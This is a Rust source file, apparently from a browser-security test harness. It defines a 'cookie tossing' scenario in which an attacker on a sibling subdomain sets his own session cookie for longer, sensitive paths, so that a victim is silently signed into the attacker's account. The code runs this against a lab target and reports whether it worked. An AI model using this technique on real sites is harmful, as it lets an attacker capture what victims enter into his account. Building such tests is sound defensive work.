//! A cookie for a longer path.

use super::tossed::tossed;

use crate::attack::{
    places::SIBLING,
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "path-tricks",
    title: "A cookie for a longer path",
    has: "a sibling subdomain, and an account of his own",
    does: "sets his own cookie for the very paths that matter: browsers send the longer path first",
    gains: "the victim in the attacker's account, on those pages only, so that it is hardly noticed",
    source: "RFC 6265bis section 5.8.3 and 8.6; F013, F015",
    expected: Expected::EVERYWHERE.not_careless_jwt("its client holds no cookie"),
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (victim, page) = stage.visitor("victim").await?;
    let mallory = stage.person("mallory");
    stage.target.sign_up(&mallory).await?;
    let own = stage.target.sign_in_by_cookie(&mallory, None).await?;
    for path in ["/home", "/v1/account", "/v1/refresh", "/v1", "/devices"] {
        page.open(&stage.lab.places.publish_with(SIBLING, "Read my blog", tossed(&own, path))).await?;
    }
    let greeted = stage.greeted(&page).await?;
    Ok(if greeted == victim.email {
        Found::Refused("the victim is who he was".to_owned())
    } else {
        stage.show(&page, "the victim's browser after the visit").await?;
        Found::Worked(format!("the victim is greeted as {greeted}"))
    })
}
